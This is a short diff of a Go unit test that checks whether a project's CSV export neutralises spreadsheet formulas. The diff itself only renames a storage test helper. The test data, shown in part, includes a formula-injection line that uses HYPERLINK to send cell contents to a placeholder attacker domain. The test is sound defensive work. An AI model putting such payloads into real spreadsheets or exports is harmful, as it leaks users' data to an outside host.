@@ -12,7 +12,7 @@ import (
 	"github.com/google/go-cmp/cmp"
 
 	"github.com/dobrobot/dobrobot/commands"
-	"github.com/dobrobot/dobrobot/storage/storagetest"
+	"github.com/dobrobot/dobrobot/storage/bolttest"
 )
 
 // TestCSVExportNeutralisesFormulas: a cell that a spreadsheet would read as
@@ -21,7 +21,7 @@ import (
 // the JSON lines export keeps the text exactly (issue 12, item 8).
 func TestCSVExportNeutralisesFormulas(t *testing.T) {
 	ctx := context.Background()
-	db := storagetest.Open(t)
+	db := bolttest.Open(t)
 	at := time.Date(2026, 12, 1, 9, 0, 0, 0, time.UTC)
 	details := []string{
 		`=HYPERLINK("https://evil.example/?"&A1,"click")`,
